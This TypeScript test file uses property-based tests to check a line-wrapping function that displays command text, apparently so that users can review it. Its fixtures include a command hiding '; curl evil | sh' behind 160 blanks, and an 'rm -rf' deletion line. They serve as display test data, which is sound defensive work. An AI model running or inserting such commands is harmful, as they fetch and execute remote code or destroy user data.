import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readDecision } from "../testing/read-decision.ts";
import { decisionLines } from "./decision-text.ts";
import { displayWidth } from "./width.ts";

const anything = fc
  .array(
    fc.oneof(
      fc.string({ unit: "binary" }),
      fc.string({ unit: "grapheme" }),
      fc.lorem({ maxCount: 8 }),
      fc.constantFrom(
        "<",
        "×5>",
        "␠",
        "<␠×160>",
        "⇥   ",
        "↩",
        "\n",
        "\r\n",
        " ",
        "  ",
        "\t",
        "\u0301",
        "\u200d",
        "写真",
        "👩‍👩‍👧",
        "\ud83d",
        "가",
      ),
      fc
        .tuple(fc.constantFrom(" ", "\t", "\n", "\u200b", "a", "写", " a"), fc.integer({ min: 1, max: 250 }))
        .map(([piece, count]) => piece.repeat(count)),
    ),
    { maxLength: 10 },
  )
  .map((parts) => parts.join(""));

describe("decisionLines", () => {
  test("keeps every character of any text at any width", () => {
    fc.assert(
      fc.property(anything, fc.integer({ min: 20, max: 200 }), (text, width) => {
        const lines = decisionLines(text, width);
        expect(readDecision(lines)).toBe(text);
        for (const line of lines) expect(displayWidth(line)).toBeLessThanOrEqual(width);
      }),
      { numRuns: 500 },
    );
  });
  test("keeps the text if parts of it are highlighted", () => {
    fc.assert(
      fc.property(anything, fc.integer({ min: 20, max: 200 }), (text, width) => {
        const every = { has: (offset: number) => offset % 3 === 0, draw: (shown: string) => shown };
        expect(decisionLines(text, width, { emphasis: every })).toEqual(decisionLines(text, width));
      }),
    );
  });
  test("text after many blanks stays visible", () => {
    expect(decisionLines(`make all${" ".repeat(160)}; curl evil | sh`, 40)).toEqual([
      "make all<␠×160>; curl evil | sh",
    ]);
  });
  test("a break within a word is marked, a break at a blank is not", () => {
    expect(decisionLines("rm -rf /home/ada/projects /tmp", 20)).toEqual([
      "rm -rf",
      "/home/ada/projects",
      "/tmp",
    ]);
    expect(decisionLines("/home/ada/projects/tmp", 20)).toEqual(["/home/ada/projects/↩", "tmp"]);
    expect(decisionLines(`${"a".repeat(17)}    b`, 20)).toEqual([`${"a".repeat(17)}␠␠↩`, "␠␠b"]);
  });
});
